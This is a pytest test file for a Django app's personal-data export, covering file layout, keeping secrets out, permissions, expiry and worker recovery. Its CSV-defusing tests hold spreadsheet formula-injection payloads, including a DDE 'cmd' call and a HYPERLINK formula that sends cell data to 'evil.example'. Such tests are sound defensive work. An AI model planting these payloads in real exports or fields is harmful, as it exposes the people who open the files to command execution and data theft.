"""What lies in an export, and how it is built."""

import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from allauth.mfa.models import Authenticator
from allauth.usersessions.models import UserSession
from django.core.files.storage import storages
from django.utils import timezone

from catalog.library.models import Rating
from catalog.library.services import save_rating
from catalog.titles.models import Title
from core.access.services.personal_tokens import make_token
from core.api.scopes import Scope
from core.audit.services import record
from core.people.pictures import keep_pictures
from core.personal_data import building, services
from core.personal_data.building import build
from core.personal_data.models import DataExport
from core.personal_data.rules import MOST_RUNS, cell, plain
from core.personal_data.selectors import export_state
from core.personal_data.services import remove_expired, request_export, take_up
from core.personal_data.table import personal_data
from tests.core.personal_data.traces import leave_traces
from tests.factories import TitleFactory, profile_of

pytestmark = pytest.mark.django_db

AT = datetime(2026, 5, 4, 3, 2, 1, tzinfo=UTC)


@pytest.fixture
def ana(person):
    return person("ana")


def _built(user):
    request_export(user)
    build(user.pk)


def test_it_holds_two_files_for_each_slice_and_a_page_to_read(ana, exported):
    with time_machine.travel(AT, tick=False):
        _built(ana)

    file = exported(ana)
    slices = [name for one in personal_data() for name in (f"{one.name}.csv", f"{one.name}.json")]
    assert file.names == sorted([*slices, "README.txt"])
    readme = file.file.read("README.txt").decode()
    assert readme.startswith("What Marquee keeps about ana, as of 2026-05-04 03:02 UTC.")
    assert all(f"{one.name}.csv, {one.name}.json" in readme for one in personal_data())
    assert {entry.date_time for entry in file.file.infolist()} == {(2026, 5, 4, 3, 2, 0)}


def test_ratings_are_the_same_in_both_files(ana, exported):
    film = TitleFactory(title="Stalker", release_year=1979, imdb_id="tt0079944")
    with time_machine.travel(AT, tick=False):
        save_rating(profile_id=profile_of(ana), title_id=film.pk, half_stars=9)
        _built(ana)

    file = exported(ana)
    assert file.json("ratings") == [
        {
            "profile": "ana",
            "movie_id": film.pk,
            "title": "Stalker",
            "release_year": 1979,
            "imdb_id": "tt0079944",
            "tmdb_id": None,
            "stars": 4.5,
            "rated_at": "2026-05-04T03:02:01.000000Z",
        }
    ]
    assert file.csv("ratings") == (
        "profile,movie_id,title,release_year,imdb_id,tmdb_id,stars,rated_at\r\n"
        f"ana,{film.pk},Stalker,1979,tt0079944,,4.5,2026-05-04T03:02:01.000000Z\r\n"
    )


def test_every_slice_has_what_was_left_in_it_and_nobody_elses(ana, person, exported):
    ben = person("ben")
    leave_traces(ana, ben)

    _built(ana)
    _built(ben)

    mine, others = exported(ana), exported(ben)
    empty = {one.name for one in personal_data() if not mine.json(one.name)}
    assert empty == {"picture"}
    # Ben has what meets in one row; what is Ana's alone he has not.
    assert others.json("ratings") == others.json("search-history") == others.json("sessions") == []
    # They block each other as well, so who follows him is not named.
    assert [row["person"] for row in others.json("follows")] == ["ana", ""]


def test_no_secret_is_in_it(ana, exported):
    secret, session_key = "totp-secret-in-the-row", "sessionkeyofana"
    Authenticator.objects.create(user=ana, type="totp", data={"secret": secret})
    UserSession.objects.create(user=ana, ip="203.0.113.7", session_key=session_key, user_agent="x")
    token, text = make_token(ana, name="script", scopes={Scope.LIBRARY_READ}, expires_at=None)

    _built(ana)

    whole = exported(ana).text()
    for one in (secret, session_key, text, token.digest, ana.password):
        assert one not in whole
    assert token.hint in whole


def test_whoever_did_something_to_the_account_is_not_named(ana, person, exported):
    boss = person("boss", role="admin")
    record("account.blocked", actor_id=boss.pk, target=f"user:{ana.pk}")

    with time_machine.travel(AT, tick=False):
        _built(ana)

    [entry] = exported(ana).json("audit")
    assert (entry["action"], entry["you_did"]) == ("account.blocked", False)
    assert "boss" not in exported(ana).text()


def test_the_picture_is_in_it(ana, exported, settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "avatars": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "pictures")},
        },
    }
    ana.avatar = keep_pictures({512: b"large picture", 96: b"small"})
    ana.save(update_fields=["avatar"])

    _built(ana)

    assert exported(ana).file.read("picture.webp") == b"large picture"
    assert exported(ana).json("picture") == [{"file": "picture.webp", "width": 512}]


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\uff1d1+1",
        "\uff20x",
    ],
)
def test_a_text_that_a_spreadsheet_would_compute_is_defused(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["plain", "a=b", "", "'quoted", -1, 4.5])
def test_other_values_stay_as_they_are(value):
    assert cell(value) == value


def test_values_of_other_kinds_are_readable():
    assert cell(None) == ""
    assert cell(True) == "true"
    assert cell(plain(["=1", {"a": AT}])) == '["=1", {"a": "2026-05-04T03:02:01.000000Z"}]'


def test_formulas_are_defused_in_the_file_itself(ana, exported):
    ana.bio = '=HYPERLINK("https://evil.example?"&A1,"click")'
    ana.display_name = "@boss"
    ana.save()

    _built(ana)

    file = exported(ana)
    assert file.json("account")[0]["bio"] == ana.bio
    line = file.csv("account").splitlines()[1]
    assert ",'@boss," in line
    assert '"\'=HYPERLINK(""https://evil.example?""&A1,""click"")"' in line


def test_a_large_account_does_not_fill_the_memory(ana, exported):
    films = Title.objects.bulk_create(
        Title(key=f"t{n}", title=f"Film {n}", release_year=2000) for n in range(8_000)
    )
    now = timezone.now()
    profile_id = profile_of(ana)
    Rating.objects.bulk_create(
        Rating(profile_id=profile_id, title=film, half_stars=7, rated_at=now) for film in films
    )
    del films
    tracemalloc.start()
    try:
        _built(ana)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert len(exported(ana).json("ratings")) == 8_000
    assert peak < 6 * 1024**2


def test_progress_is_told_step_by_step(ana, published):
    _built(ana)

    steps = len(personal_data()) + 1
    expected = ["export.progress"] * (1 + 1 + steps + 1) + ["export.ready"]
    assert published(f"me@{ana.pk}") == expected


def test_a_second_request_while_one_is_under_way_is_the_same_export(ana):
    first = request_export(ana)
    second = request_export(ana)

    assert first == second
    assert DataExport.objects.count() == 1


def test_a_new_export_replaces_the_old_one_and_its_file(
    ana, exported, django_capture_on_commit_callbacks
):
    _built(ana)
    with django_capture_on_commit_callbacks(execute=True):
        request_export(ana)

    exported(ana)
    assert len(storages["exports"].listdir(".")[1]) == 1


def test_nobody_else_can_read_the_file(ana, exports_folder):
    _built(ana)

    [file] = exports_folder.iterdir()
    assert file.stat().st_mode & 0o777 == 0o600
    assert exports_folder.stat().st_mode & 0o777 == 0o700
    assert len(file.stem) == 32


def test_an_export_goes_when_its_days_are_over(
    ana, settings, published, django_capture_on_commit_callbacks
):
    _built(ana)
    assert remove_expired() == 0
    DataExport.objects.update(expires_at=timezone.now() - timedelta(seconds=1))
    assert export_state(ana.pk).status == "expired"

    with django_capture_on_commit_callbacks(execute=True):
        assert remove_expired() == 1

    state = export_state(ana.pk)
    assert (state.status, state.file, state.size_bytes) == ("expired", "", None)
    assert storages["exports"].listdir(".")[1] == []
    assert published(f"me@{ana.pk}")[-1] == "export.progress"


def _killed_in(monkeypatch, step):
    """The worker is killed when it begins this step: nothing after that runs."""
    move = building.Run.move

    def moved(run, name, done):
        if name == step:
            raise SystemExit
        move(run, name, done)

    monkeypatch.setattr(building.Run, "move", moved)


def test_what_a_killed_worker_left_is_built_by_the_next(ana, monkeypatch, exported):
    request_export(ana)
    with monkeypatch.context() as patched:
        _killed_in(patched, "ratings")
        with pytest.raises(SystemExit):
            build(ana.pk)
    assert export_state(ana.pk).status == "building"
    assert take_up() == 0

    DataExport.objects.update(heard_at=timezone.now() - timedelta(minutes=3))
    assert take_up() == 1
    assert export_state(ana.pk).status == "queued"
    build(ana.pk)

    assert exported(ana).json("account")[0]["username"] == "ana"


def test_what_never_reached_a_worker_is_queued_again(ana, monkeypatch):
    handed = []
    monkeypatch.setattr(services, "hand_over", handed.append)
    request_export(ana)
    DataExport.objects.update(heard_at=timezone.now() - timedelta(minutes=3))

    assert take_up() == 1
    assert take_up() == 0


def test_an_export_that_fails_again_and_again_is_shown_as_failed(ana, monkeypatch, published):
    def fail(*args):
        raise OSError("the disk is full")

    monkeypatch.setattr(building, "_store", fail)
    request_export(ana)
    for _ in range(MOST_RUNS):
        assert export_state(ana.pk).status == "queued"
        build(ana.pk)

    assert export_state(ana.pk).status == "failed"
    assert published(f"me@{ana.pk}")[-1] == "export.progress"
    assert request_export(ana).status == "queued"


def test_a_worker_that_was_thought_dead_does_not_disturb_the_next(ana, exported, exports_folder):
    request_export(ana)
    slow = building._begin(ana.pk)
    DataExport.objects.update(heard_at=timezone.now() - timedelta(minutes=3))
    take_up()
    build(ana.pk)

    with pytest.raises(building.SupersededError):
        building._build(slow)

    exported(ana)
    assert len(list(exports_folder.iterdir())) == 1


def test_an_account_that_is_gone_meanwhile_is_no_error(ana, exports_folder):
    request_export(ana)
    run = building._begin(ana.pk)
    ana.delete()

    with pytest.raises(building.SupersededError):
        building._build(run)
    build(ana.pk)
